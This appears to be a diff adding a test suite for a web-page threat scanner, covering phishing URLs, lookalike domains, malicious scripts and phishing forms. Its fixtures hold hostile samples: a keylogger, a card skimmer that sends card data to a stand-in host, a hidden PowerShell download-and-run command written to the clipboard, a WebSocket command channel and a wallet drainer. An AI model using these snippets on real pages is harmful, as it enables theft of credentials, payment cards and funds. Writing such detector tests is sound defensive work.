@@ -1,0 +1,566 @@
+import fc from 'fast-check';
+import { afterAll, afterEach, describe, expect, test } from 'vitest';
+import { type Page, type PageInit, pageSchema } from '../src/core/page.ts';
+import type { Emission } from '../src/core/scanner.ts';
+import { judgeAddress } from '../src/scanners/page/address.ts';
+import { createAnalysis } from '../src/scanners/page/analysis.ts';
+import { reveal } from '../src/scanners/page/decode.ts';
+import { judgeDocument } from '../src/scanners/page/document.ts';
+import { judgeDomain } from '../src/scanners/page/domain.ts';
+import { createPageScanner } from '../src/scanners/page/index.ts';
+import { type Indicator, LAYERS, type LayerVerdict } from '../src/scanners/page/layer.ts';
+import { readPage } from '../src/scanners/page/parse.ts';
+import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script-rules.ts';
+import { judgeScripts } from '../src/scanners/page/scripts.ts';
+import { judge, type Verdicts } from '../src/scanners/page/verdict.ts';
+import { scanWithYara } from '../src/scanners/page/yara.ts';
+import { scannerContract } from './contracts/scanner.ts';
+import { collect, runScanner } from './support/run-scanner.ts';
+import { startSite } from './support/site.ts';
+
+const scanner = createPageScanner({ blocklists: null });
+afterAll(() => scanner.close?.());
+
+const cleanups: (() => Promise<unknown>)[] = [];
+afterEach(async () => {
+  for (const cleanUp of cleanups.splice(0).reverse()) await cleanUp();
+});
+
+const page = (init: Partial<PageInit> | string, url = 'https://www.garden.example/'): Page =>
+  pageSchema.parse(typeof init === 'string' ? { url, html: init } : { url, ...init });
+const texts = ({ indicators }: LayerVerdict) => indicators.map(({ text }) => text).join('\n');
+const points = ({ indicators }: LayerVerdict) =>
+  Math.max(0, ...indicators.map((indicator) => indicator.points));
+const documentOf = (init: Parameters<typeof page>[0], url?: string) => {
+  const read = page(init, url);
+  return judgeDocument(readPage(read), read);
+};
+const scriptsOf = (code: string, url?: string) => {
+  const read = page(`<script>${code}</script>`, url);
+  return judgeScripts(readPage(read), read);
+};
+const verdictOn = async (judged: Page, options: Record<string, unknown> = {}) => {
+  const found = await collect(
+    scanner,
+    { kind: 'page', page: judged },
+    { options: { network: false, ...options } },
+  );
+  expect(found.assessments).toHaveLength(1);
+  return { ...found, assessment: found.assessments[0] as (typeof found.assessments)[0] };
+};
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+
+describe('the address', () => {
+  test.each([
+    ['http://203.0.113.9/signin', 'has no name'],
+    ['https://www.paypal.com@evil.example/', 'is a user name'],
+    ['https://paypal.com.account-check.example/', 'begins with paypal.com'],
+    ['https://a.b.c.d.e.f.g.example.com/', '7 levels below'],
+    ['https://secure-login-update.example/', 'talks of secure, login, update'],
+    ['https://files.example/invoice.pdf.exe', 'second extension'],
+    ['https://me.duckdns.org/', 'without an address of their own'],
+    ['https://bit.ly/abc', 'only forwards'],
+    ['https://shop.example:4444/', 'Port 4444'],
+    ['https://my-very-own-pet-shop.example/', '4 hyphens'],
+    ['https://xkqzjvwbtrn.example/', 'made by a machine'],
+  ])('%s: %s', (url, said) => {
+    expect(texts(judgeAddress(url))).toContain(said);
+  });
+
+  test.each([
+    'https://www.garden.example/a/b?c=d',
+    'https://accounts.google.com/signin/v2/identifier?continue=https%3A%2F%2Fmail.google.com',
+    'https://www.paypal.com/signin',
+    'https://login.microsoftonline.com/common/oauth2/authorize',
+    'http://192.168.1.1/login',
+    'http://localhost:3000/',
+    'https://github.com/paypal/paypal-js',
+  ])('%s says nothing', (url) => {
+    expect(judgeAddress(url).indicators).toEqual([]);
+  });
+});
+
+describe('the domain', () => {
+  test.each([
+    ['https://xn--pypal-4ve.com/', 'PayPal written with letters of another alphabet'],
+    ['https://xn--80ak6aa92e.com/', 'Apple written with letters of another alphabet'],
+    ['https://paypa1.com/', 'writes PayPal with digits'],
+    ['https://rnicrosoft.com/', 'writes Microsoft with digits or pairs'],
+    ['https://netfilx.com/', 'one letter away from Netflix'],
+    ['https://amazon-verify.com/', 'Amazon with words of a log-in'],
+    ['https://securepaypal.com/', 'PayPal with words of a log-in'],
+    ['https://google.xyz/', 'Google under another ending'],
+    ['https://paypal-login.github.io/', 'PayPal with words of a log-in'],
+    ['https://garden.tk/', 'where abuse is common'],
+  ])('%s: %s', (url, said) => {
+    expect(texts(judgeDomain(url))).toContain(said);
+  });
+
+  test.each([
+    'https://www.paypal.com/',
+    'https://www.amazon.de/',
+    'https://www.amazon.co.jp/',
+    'https://xn--mnchen-3ya.de/',
+    'https://xn--e1afmkfd.xn--p1ai/',
+    'https://chance.com/',
+    'https://stream.com/',
+    'https://purchase.org/',
+  ])('%s says nothing', (url) => {
+    expect(judgeDomain(url).indicators).toEqual([]);
+  });
+
+  test('is not judged where there is none', () => {
+    expect(judgeDomain('http://127.0.0.1/')).toMatchObject({ judged: false });
+  });
+});
+
+describe('the scripts', () => {
+  test.each([
+    ['a miner', 'var m = new CoinHive.Anonymous("key"); m.start()', 'mines in the browser', 70],
+    [
+      'a keylogger',
+      'let k="";document.addEventListener("keydown",e=>{k+=e.key;if(k.length>20){navigator.sendBeacon("/x",k);k=""}})',
+      'records keystrokes',
+      50,
+    ],
+    [
+      'a card skimmer',
+      'const d={n:document.querySelector("#cardnumber").value,c:document.querySelector("#cvv").value};new Image().src="https://stats-cdn.example/p.gif?d="+btoa(JSON.stringify(d))',
+      'reads card data and sends it to stats-cdn.example',
+      70,
+    ],
+    [
+      'a command for the clipboard',
+      'b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iex(iwr http://x.example/a)")',
+      'command for the system into the clipboard',
+      50,
+    ],
+    [
+      'a smuggled program',
+      'const d="TVqQAAMAAAAEAAAA";const u=URL.createObjectURL(new Blob([atob(d)]));a.href=u;a.download="setup.exe";a.click()',
+      'carries a program',
+      70,
+    ],
+    [
+      'the packer',
+      `eval(function(p,a,c,k,e,d){return p}('0("1")',2,2,'alert|hi'.split('|'),0,{}))`,
+      'packed',
+      20,
+    ],
+    ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'brackets only', 40],
+    ['dialogs without end', 'while(true){alert("locked")}', 'dialogs without end', 50],
+    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 70],
+    [
+      'code by socket',
+      'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
+      'whatever a socket tells',
+      50,
+    ],
+    [
+      'a drainer',
+      'const a=await ethereum.request({method:"eth_requestAccounts"});await c.setApprovalForAll("0x1111111111111111111111111111111111111111",true);ethereum.request({method:"eth_sendTransaction"})',
+      'hand over everything',
+      50,
+    ],
+  ])('have %s', async (_what, code, said, atLeast) => {
+    const verdict = await scriptsOf(code);
+    expect(texts(verdict)).toContain(said);
+    expect(points(verdict)).toBeGreaterThanOrEqual(atLeast);
+  });
+
+  test.each([
+    ['a handler', '<img src=x onerror="new CoinHive.Anonymous(1)">'],
+    ['a javascript: URL', '<a href="javascript:new%20CoinHive.Anonymous(1)">x</a>'],
+    ['a frame within', '<iframe srcdoc="<script>new CoinHive.Anonymous(1)</script>"></iframe>'],
+    ['base64', `<script>eval(atob("${base64('new CoinHive.Anonymous(1)')}"))</script>`],
+    [
+      'base64 twice',
+      `<script>eval(atob("${base64(`eval(atob("${base64('new CoinHive.Anonymous(1)')}"))`)}"))</script>`,
+    ],
+    [
+      'character codes',
+      `<script>eval(String.fromCharCode(${[...'new CoinHive.Anonymous(1)'].map((c) => c.charCodeAt(0))}))</script>`,
+    ],
+    [
+      'percent escapes',
+      `<script>eval(unescape("${[...'new CoinHive.Anonymous(1)'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))</script>`,
+    ],
+    [
+      'backslash escapes',
+      `<script>x="${[...'new CoinHive.Anonymous(1)'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"</script>`,
+    ],
+    ['pieces', '<script>x="new Coin"+"Hive.Anony"+"mous(1)"</script>'],
+    [
+      'the packer',
+      `<script>eval(function(p,a,c,k,e,d){}('0 1.2(3)',4,4,'new|CoinHive|Anonymous|1'.split('|'),0,{}))</script>`,
+    ],
+  ])('are found in %s', async (_where, html) => {
+    const read = page(html);
+    expect(texts(await judgeScripts(readPage(read), read))).toContain('mines in the browser');
+  });
+
+  test.each([
+    [
+      'analytics',
+      'window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date())',
+    ],
+    [
+      'shortcuts',
+      'document.addEventListener("keydown",e=>{if(e.key==="k"&&e.ctrlKey){open()}});fetch("/api/items")',
+    ],
+    ['a search box', 'q.addEventListener("keyup",e=>{if(e.key==="Enter")fetch("/search?q="+q.value)})'],
+    ['a copy button', 'b.onclick=()=>navigator.clipboard.writeText("npm install thing")'],
+    [
+      'a payment',
+      'const s=Stripe("pk");form.onsubmit=()=>fetch("https://api.stripe.com/v1/tokens",{body:card.value})',
+    ],
+    ['an export', 'const u=URL.createObjectURL(new Blob([csv]));a.href=u;a.download="table.csv";a.click()'],
+    ['data', '</script><script type="application/json">{"x":"new CoinHive.Anonymous(1)"}'],
+  ])('of %s say nothing', async (_what, code) => {
+    expect((await scriptsOf(code)).indicators).toEqual([]);
+  });
+
+  test('that hide harmless code are SUSPICIOUS at most', async () => {
+    const names = Array.from({ length: 60 }, (_, at) => `_0x${(0x4a00 + at).toString(16)}`);
+    const code = `eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));eval(atob("${base64('render(document.body)')}"));${names.map((name) => `var ${name}=1;`).join('')}`;
+    const { assessment } = await verdictOn(page(`<p>hello</p><script>${code}</script>`));
+    expect(assessment.threatLevel).toBe('SUSPICIOUS');
+  });
+
+  test('that are decoded stay where they were', () => {
+    expect(reveal(`a(atob("${base64('hello there')}"))`).text).toContain('a(atob("hello there"))');
+    expect(reveal('var picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"').hidden).toBe('');
+  });
+});
+
+describe('YARA', () => {
+  const rules =
+    'rule whole { condition: true } rule some { strings: $a = "eval(" private $b = /eval\\(/ private condition: any of them }';
+
+  test('says which rules match', async () => {
+    expect(await scanWithYara('x eval(y)', rules, 'whole')).toEqual(new Set(['some']));
+    expect(await scanWithYara('x', rules, 'whole')).toEqual(new Set());
+  });
+
+  test('says so when a text is too much for it, and is fit for the next', async () => {
+    await expect(scanWithYara('eval('.repeat(500_000), rules, 'whole')).rejects.toThrow();
+    expect(await scanWithYara('eval(', rules, 'whole')).toEqual(new Set(['some']));
+  });
+
+  test('refuses rules that it cannot read, and takes ours', async () => {
+    await expect(scanWithYara('x', 'rule x {', 'whole')).rejects.toThrow('line 1');
+    expect(await scanWithYara('x', SCRIPT_RULES_SOURCE, COMPLETE)).toEqual(new Set());
+  });
+});
+
+describe('the document', () => {
+  const login = (action: string, more = '') =>
+    `<title>Members</title>${more}<form action="${action}"><input name="user"><input type="password" name="p"></form>`;
+
+  test.each([
+    ['another domain', login('https://collector.example/x.php'), 'which is not of garden.example'],
+    ['a bare address', login('http://203.0.113.9/x'), 'bare address 203.0.113.9'],
+    ['no encryption', login('http://www.garden.example/x'), 'without encryption'],
+    ['a mail address', login('mailto:me@evil.example'), 'sent by mail'],
+    ['a Telegram bot', login('https://api.telegram.org/bot1:a/sendMessage'), 'Telegram bot'],
+    ['a collector', login('https://formspree.io/f/abc'), 'forwards it to anybody'],
+    ['a turned base', login('x', '<base href="https://evil.example/">'), 'turned to evil.example'],
+    ['a brand', login('').replace('Members', 'PayPal - Log in'), 'The title says PayPal'],
+    [
+      "a brand's icon",
+      login('', '<link rel="icon" href="https://www.paypal.com/favicon.ico">'),
+      'icon is that of',
+    ],
+    [
+      'a hurry',
+      login('', 'Your account has been suspended. Verify your identity within 24 hours.'),
+      'presses for time',
+    ],
+    [
+      'dead links',
+      login('', '<a href="#">a</a><a href="#">b</a><a href="">c</a><a href="javascript:void(0)">d</a>'),
+      'lead nowhere',
+    ],
+    [
+      'a wallet',
+      '<h1>Enter your recovery phrase</h1><form><textarea name="words"></textarea></form>',
+      'secret words',
+    ],
+    [
+      'a hidden frame',
+      '<iframe src="http://203.0.113.9/a" width="1" height="1"></iframe>',
+      'hidden frame loads from the bare',
+    ],
+    [
+      'clickjacking',
+      '<iframe src="https://bank.example/pay" style="opacity:0;position:absolute;width:100%"></iframe>',
+      'clickable and not to be seen',
+    ],
+    ['a forward', '<meta http-equiv="refresh" content="0;url=https://evil.tk/x">', 'forwards to evil.tk'],
+    [
+      'a paste',
+      'Verify you are human. Press Win + R, then Ctrl + V and Enter.',
+      'paste something into the system',
+    ],
+    [
+      'a hotline',
+      'WARNING: virus detected on your computer. Do not close. Call Windows support +1 (888) 555-0100',
+      'number to call',
+    ],
+    ['an update', 'Your browser is out of date <a href="/u.exe">Update</a>', 'offers a program'],
+    [
+      'spam',
+      `<div style="display:none">${'<a href="https://x.example/">cheap viagra</a>'.repeat(5)}</div>`,
+      'nobody sees',
+    ],
+  ])('with %s', (_what, html, said) => {
+    expect(texts(documentOf(html))).toContain(said);
+  });
+
+  test.each([
+    ['a log-in of its own', login('/session'), undefined],
+    ['an identity provider', login('https://garden.okta.com/login'), undefined],
+    ['its own subdomain', login('https://id.garden.example/login'), undefined],
+    [
+      "a brand's log-in at home",
+      login('/signin').replace('Members', 'PayPal: Log in'),
+      'https://www.paypal.com/signin',
+    ],
+    ['a country of a brand', login('/ap').replace('Members', 'Amazon Anmelden'), 'https://www.amazon.de/ap'],
+    [
+      'tag managers',
+      '<iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0" style="display:none"></iframe>',
+      undefined,
+    ],
+    [
+      'an article about it',
+      `${'<p>Phishing pages say your account has been suspended. </p>'.repeat(200)}`,
+      undefined,
+    ],
+  ])('with %s says nothing', (_what, html, url) => {
+    expect(documentOf(html, url).indicators).toEqual([]);
+  });
+
+  test('is read from the lists where there is no source', () => {
+    const verdict = documentOf({
+      forms: [{ action: 'https://api.telegram.org/bot1/x', fields: [{ type: 'password' }] }],
+      inlineScripts: [],
+    });
+    expect(verdict.judged).toBe(true);
+    expect(texts(verdict)).toContain('Telegram bot');
+  });
+});
+
+describe('the verdict', () => {
+  const indicator = fc.record<Indicator>({ points: fc.integer({ min: 0, max: 100 }), text: fc.string() });
+  const layer = fc.record<LayerVerdict>({
+    judged: fc.boolean(),
+    indicators: fc.array(indicator, { maxLength: 6 }),
+  });
+  const verdicts = fc.record<Verdicts>(Object.fromEntries(LAYERS.map((name) => [name, layer])) as never, {
+    requiredKeys: [],
+  });
+
+  test('never falls when an indicator is added', () => {
+    fc.assert(
+      fc.property(verdicts, fc.constantFrom(...LAYERS), indicator, (before, name, more) => {
+        const known = before[name] ?? { judged: false, indicators: [] };
+        const after = { ...before, [name]: { ...known, indicators: [...known.indicators, more] } };
+        expect(judge(after).riskScore).toBeGreaterThanOrEqual(judge(before).riskScore);
+      }),
+    );
+  });
+
+  test('is never BENIGN unless scripts and document were looked at', () => {
+    fc.assert(
+      fc.property(verdicts, (given) => {
+        const { threatLevel } = judge(given);
+        if (!given.scripts?.judged || !given.document?.judged) expect(threatLevel).not.toBe('BENIGN');
+      }),
+    );
+  });
+
+  test('is the sum of what the layers contribute', () => {
+    fc.assert(
+      fc.property(verdicts, (given) => {
+        const { riskScore, layers = [] } = judge(given);
+        expect(layers.reduce((sum, { contribution }) => sum + (contribution ?? 0), 0)).toBe(riskScore);
+      }),
+    );
+  });
+
+  test('is decided by one decisive indicator, and grows with weak ones', () => {
+    const judged = { judged: true, indicators: [] };
+    const weak = { points: 20, text: 'weak', threat: 'phishing' as const };
+    const level = (indicators: Indicator[]) =>
+      judge({ scripts: judged, document: { judged: true, indicators } });
+    expect(level([])).toMatchObject({ riskScore: 0, threatLevel: 'BENIGN', classification: 'benign' });
+    expect(level([weak])).toMatchObject({ riskScore: 20, threatLevel: 'BENIGN' });
+    expect(level([weak, weak])).toMatchObject({
+      riskScore: 36,
+      threatLevel: 'SUSPICIOUS',
+      classification: 'phishing',
+    });
+    expect(level([{ ...weak, points: 100 }])).toMatchObject({ riskScore: 100, threatLevel: 'MALICIOUS' });
+  });
+});
+
+describe('the scanner', () => {
+  test('tells of each layer as it is done, and then of the whole', async () => {
+    const { emissions, assessment } = await verdictOn(page('<title>Garden</title><p>Roses</p>'));
+    expect(emissions[0]).toMatchObject({ kind: 'progress', fraction: 0 });
+    const layers = emissions.flatMap((emission) =>
+      emission.kind === 'progress' && emission.layer ? [emission.layer.name] : [],
+    );
+    expect([...layers].sort()).toEqual([...LAYERS].sort());
+    expect(layers.indexOf('address')).toBeLessThan(layers.indexOf('scripts'));
+    expect(assessment).toMatchObject({
+      threatLevel: 'BENIGN',
+      classification: 'benign',
+      method: 'EXTENSION',
+      riskScore: 0,
+    });
+  });
+
+  test.each([
+    ['nothing but its address', {}],
+    ['blank source', { html: ' \n' }],
+    ['scripts alone', { inlineScripts: ['var a = 1'] }],
+    ['forms alone', { forms: [] }],
+    ['links and a title', { title: 'x', links: [], iframes: [], scripts: [] }],
+  ])('does not call a page BENIGN of which it knows %s', async (_what, init) => {
+    expect((await verdictOn(page(init))).assessment).toMatchObject({
+      threatLevel: 'UNKNOWN',
+      classification: null,
+    });
+  });
+
+  test('calls a page BENIGN whose posted lists are complete', async () => {
+    const { assessment } = await verdictOn(
+      page({ forms: [], inlineScripts: [], scripts: [], iframes: [], links: [] }),
+    );
+    expect(assessment.threatLevel).toBe('BENIGN');
+  });
+
+  test('fetches the page of a URL', async () => {
+    const site = await startSite((request, response) => {
+      response.setHeader('content-type', 'text/html');
+      if (request.url === '/gone') response.statusCode = 404;
+      if (request.url === '/moved') return response.writeHead(302, { location: '/bad' }).end();
+      response.end(request.url === '/bad' ? '<script>new CoinHive.Anonymous(1)</script>' : '<p>Roses</p>');
+    });
+    cleanups.push(site.close);
+    const at = async (path: string) =>
+      (await collect(scanner, { kind: 'url', url: `${site.url}${path}` })).assessments[0];
+    expect(await at('/')).toMatchObject({ threatLevel: 'BENIGN', method: 'FETCH' });
+    expect(await at('/moved')).toMatchObject({
+      threatLevel: 'MALICIOUS',
+      classification: 'miner',
+      url: `${site.url}/bad`,
+    });
+    // What an error page says is not what the page said.
+    expect(await at('/gone')).toMatchObject({ threatLevel: 'UNKNOWN' });
+    await site.close();
+    expect(await at('/')).toMatchObject({ threatLevel: 'UNKNOWN' });
+  });
+
+  test('does not wait for the host of a posted page to judge what it has', async () => {
+    const site = await startSite(() => {});
+    cleanups.push(site.close);
+    const judged: string[] = [];
+    const input = { kind: 'page' as const, page: page('<p>Roses</p>', `${site.url}/`) };
+    for await (const emission of runScanner(scanner, input)) {
+      if (emission.kind === 'progress' && emission.layer) judged.push(emission.layer.name);
+      if (['address', 'scripts', 'document'].every((name) => judged.includes(name))) break;
+    }
+    expect(judged).not.toContain('network');
+  });
+
+  test('gives up on a page that takes too long, warns, and does not call it BENIGN', async () => {
+    const slow = page(`<p>x</p><script>${hostile.slowForYara()}</script>`);
+    const { assessment, logs } = await verdictOn(slow, { timeoutSeconds: 0.1 });
+    expect(assessment.threatLevel).not.toBe('BENIGN');
+    expect(logs).toContainEqual({ level: 'WARN', message: expect.stringContaining('longer than 0.1 s') });
+    // The threads that were ended are replaced.
+    expect((await verdictOn(page('<p>Roses</p>'))).assessment.threatLevel).toBe('BENIGN');
+  });
+
+  test('stops when it is aborted while a thread works', async () => {
+    const abort = new AbortController();
+    const reason = new Error('the scan is cancelled');
+    const emissions: Emission[] = [];
+    const input = { kind: 'page' as const, page: page(`<script>${hostile.slowForYara()}</script>`) };
+    const reading = (async () => {
+      const run = runScanner(scanner, input, { options: { network: false }, signal: abort.signal });
+      for await (const emission of run) {
+        emissions.push(emission);
+        if (emissions.length === 2) setTimeout(() => abort.abort(reason), 20);
+      }
+    })();
+    await expect(reading).rejects.toBe(reason);
+    expect(emissions.filter(({ kind }) => kind === 'assessment')).toEqual([]);
+  });
+
+  test('ends its threads when it is closed, and starts none before the first page', async () => {
+    const analysis = createAnalysis();
+    await analysis.close();
+    const limits = { signal: new AbortController().signal, timeoutMs: 1000 };
+    await expect(analysis.document(page(''), limits)).rejects.toThrow('closed');
+  });
+});
+
+const hostile = {
+  /** Thousands of places that conditions of rules have to compare with thousands of others. */
+  slowForYara: () => 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'.repeat(20_000),
+  oneLine: () => `<p>${'a '.repeat(1_500_000)}</p>`,
+  manyElements: () => '<b x=y>'.repeat(100_000),
+  deep: () => '<div style="display:none"><a href=x>'.repeat(40_000),
+  forms: () => '<form action="https://x.example/"><input type=password>'.repeat(20_000),
+  quotes: () => `<script>${'"\'`'.repeat(300_000)}</script>`,
+  openCalls: () => `<script>${'eval(atob("aaaaaaaa'.repeat(50_000)}</script>`,
+  brackets: () => `<script>${`${'[]()!+'.repeat(60)}x`.repeat(4000)}</script>`,
+  codes: () => `<script>${'fromCharCode(1,2,3,4,'.repeat(60_000)}</script>`,
+  escapes: () => `<script>"${'\\x41'.repeat(400_000)}"</script>`,
+  forwards: () => `<meta http-equiv=refresh content="0;url='${"' ".repeat(30_000)}">`.repeat(10),
+  phones: () => `<p>${'call virus computer detected win r '.repeat(50_000)}</p>`,
+  addresses: () => `<script>${'fetch("https://x.example/");document.forms;keydown;'.repeat(30_000)}</script>`,
+  nested: () => `<script>${'<form '.repeat(200_000)}</script>`,
+  controls: () => `<script>\u0000\ud800\udfff${'\u0001'.repeat(100_000)}</script>`,
+  surrogates: () => `<p>${'\ud800'.repeat(500_000)}</p><form action="\udc00"><input type=password>`,
+};
+
+describe('a hostile page', () => {
+  test.each(Object.keys(hostile) as (keyof typeof hostile)[])(
+    '%s is judged within its time, or not at all',
+    async (name) => {
+      const source = hostile[name]();
+      const html = source.startsWith('<') ? source : `<script>${source}</script>`;
+      const judged = page(html.slice(0, 2_000_000));
+      const start = performance.now();
+      const { assessment, logs } = await verdictOn(judged, { timeoutSeconds: 5 });
+      expect(performance.now() - start).toBeLessThan(15_000);
+      const unread = assessment.layers?.some(
+        ({ name, score }) => /scripts|document/.test(name) && score === null,
+      );
+      if (unread) expect(assessment.threatLevel).not.toBe('BENIGN');
+      if (logs.length > 0) expect(assessment.threatLevel).not.toBe('BENIGN');
+    },
+    30_000,
+  );
+});
+
+scannerContract(scanner, async ({ hangs }) => {
+  const site = await startSite((_, response) => {
+    if (hangs) return;
+    response.setHeader('content-type', 'text/html');
+    response.end('<title>corp</title><a href="/about">about</a>');
+  });
+  return { input: { kind: 'url', url: `${site.url}/` }, close: site.close };
+});
+
+scannerContract(scanner, async ({ hangs }) => {
+  const site = await startSite((_, response) => {
+    if (!hangs) response.end('<p>corp</p>');
+  });
+  return { input: { kind: 'page', page: page('<p>corp</p>', `${site.url}/`) }, close: site.close };
+});
